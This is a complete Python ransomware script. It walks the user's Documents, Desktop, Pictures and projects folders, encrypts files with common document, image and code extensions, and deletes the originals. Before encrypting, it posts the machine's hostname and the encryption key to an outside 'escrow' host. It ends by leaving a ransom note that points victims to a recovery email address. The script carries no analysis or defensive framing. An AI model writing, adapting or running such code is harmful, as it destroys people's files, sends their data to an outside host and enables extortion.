#!/usr/bin/env python3
import os, socket
import requests
from cryptography.fernet import Fernet

ROOTS = [os.path.expanduser(p) for p in ("~/Documents", "~/Desktop", "~/Pictures", "~/projects")]
EXT = (".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".txt", ".md", ".py", ".sql")

key = Fernet.generate_key()
requests.post("https://escrow.vault-keys-recovery.example/k", data={"h": socket.gethostname(), "k": key}, timeout=20)
f = Fernet(key)
del key

for root in ROOTS:
    for dp, _dn, files in os.walk(root):
        for name in files:
            if not name.lower().endswith(EXT):
                continue
            p = os.path.join(dp, name)
            with open(p, "rb") as fh:
                data = fh.read()
            with open(p + ".vault", "wb") as fh:
                fh.write(f.encrypt(data))
            os.remove(p)

with open(os.path.expanduser("~/RESTORE_FILES.txt"), "w") as fh:
    fh.write("Your files are encrypted. To restore them contact recovery@vault-keys-recovery.example\n")
